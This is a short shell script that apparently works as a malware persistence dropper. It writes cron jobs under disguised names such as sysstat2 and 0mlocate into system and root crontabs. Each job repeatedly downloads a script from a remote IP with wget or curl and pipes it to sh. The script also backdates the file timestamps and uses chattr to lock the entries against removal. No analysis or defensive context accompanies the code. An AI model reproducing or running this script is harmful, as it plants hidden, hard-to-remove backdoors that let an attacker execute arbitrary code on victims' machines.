#!/bin/sh
u=http://198.51.100.40/x
for f in /etc/cron.d/sysstat2 /etc/cron.hourly/0mlocate /var/spool/cron/crontabs/root /var/spool/cron/root; do
  d=$(dirname "$f")
  [ -d "$d" ] || continue
  case $f in
    */cron.hourly/*) printf '#!/bin/sh\n(wget -qO- %s||curl -s %s)|sh\n' "$u" "$u" >"$f"; chmod +x "$f" ;;
    */cron.d/*) printf '*/9 * * * * root (wget -qO- %s||curl -s %s)|sh\n' "$u" "$u" >"$f" ;;
    *) printf '*/11 * * * * (wget -qO- %s||curl -s %s)|sh\n' "$u" "$u" >>"$f" ;;
  esac
  touch -r /etc/hostname "$f"
  chattr +ia "$f" 2>/dev/null
done
service cron reload 2>/dev/null || service crond reload
